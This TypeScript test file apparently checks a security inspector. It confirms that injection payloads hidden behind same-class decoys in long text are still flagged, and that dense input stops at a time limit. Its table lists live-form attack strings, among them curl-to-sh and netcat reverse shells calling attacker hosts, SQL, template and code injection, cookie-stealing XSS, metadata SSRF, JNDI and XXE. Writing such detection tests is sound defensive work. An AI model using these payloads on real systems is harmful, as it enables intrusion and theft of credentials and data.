import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { inspectEvent } from './inspect.ts';

/** Prose of so many units that does not repeat itself. */
function prose(units: number): string {
  let text = '';
  for (let i = 1; text.length < units; i++) text += `w${((i * 7919) % 99_991).toString(36)} `;
  return text.slice(0, units);
}

// Long texts are read in windows. A decoy of the same class opens one; whatever stands behind it, at any distance, is still seen.
const rows: readonly { readonly kind: string; readonly decoy: string; readonly payload: string }[] = [
  { kind: 'cmdi', decoy: ';a=1 b=2 ', payload: '; curl http://attacker.example/x | sh' },
  { kind: 'cmdi', decoy: ';a=1 b=2 ', payload: '; nc -e /bin/sh 203.0.113.4 4444' },
  { kind: 'cmdi', decoy: ';a=1 b=2 ', payload: '; cat /etc/passwd' },
  { kind: 'cmdi', decoy: "; $'x ", payload: '$(id)' },
  { kind: 'cmdi', decoy: 'powershell is fine ', payload: ' powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3' },
  { kind: 'cmdi', decoy: '', payload: ' p^ower^shell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi' },
  { kind: 'sqli', decoy: "it's or 1 ", payload: "' union select password from users -- " },
  { kind: 'codei', decoy: 'os.path ', payload: " __import__('os').system('id')" },
  { kind: 'codei', decoy: 'exec(a) ', payload: "';system('id');'" },
  { kind: 'codei', decoy: 'require(x) ', payload: " require('child_process').execSync('id')" },
  { kind: 'ssti', decoy: '{{ name }} ', payload: " {{config.__class__.__init__.__globals__['os'].popen('id').read()}}" },
  { kind: 'xss', decoy: '<b>a</b> ', payload: '<img src=x onerror=alert(1)>' },
  { kind: 'xss', decoy: '<img src="a" ', payload: '"><script>alert(document.cookie)</script>' },
  { kind: 'ssrf', decoy: 'http://example.com/ ', payload: ' http://169.254.169.254/latest/meta-data/' },
  { kind: 'pathtraversal', decoy: '../a ', payload: ' ../../../../etc/passwd' },
  { kind: 'jndi', decoy: '${a} ', payload: '${jndi:ldap://attacker.example/a}' },
  { kind: 'xxe', decoy: '<!DOCTYPE a> ', payload: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>' },
];

describe('an attack behind a decoy of its own class is found at any distance', () => {
  for (const { kind, decoy, payload } of rows)
    test(`${kind}: ${payload}`, () => {
      const lost: number[] = [];
      for (let units = 0, step = 7; units <= 6000; units += step, step = (step * 31 + 11) % 173) {
        const { level } = inspectEvent({ value: `${decoy}${prose(units)}${payload} ${prose(900)}` });
        if (level === 'none') lost.push(units);
      }
      assert.deepEqual(lost, []);
    });
});

// What all windows and calls of a text cost together is bounded: a lexer that starts at each unit took 20 ms for a kilobyte of these.
describe('dense punctuation ends in time', () => {
  for (const unit of [';id&lt;)', '；exec(', '(*&</a>', '*a)&a', 'a;*{', '&&*\\d+'])
    test(unit, () => {
      const value = unit.repeat(Math.ceil(102_400 / unit.length));
      // Each look at the clock is a millisecond later: so often is it looked at on such a text that the time ends, and not much more often.
      let looks = 0;
      const { incomplete } = inspectEvent({ value }, { limits: { time: 5 }, now: () => looks++ });
      assert.equal(incomplete, 'time');
      assert.ok(looks < 60, `${looks} looks`);
    });
});
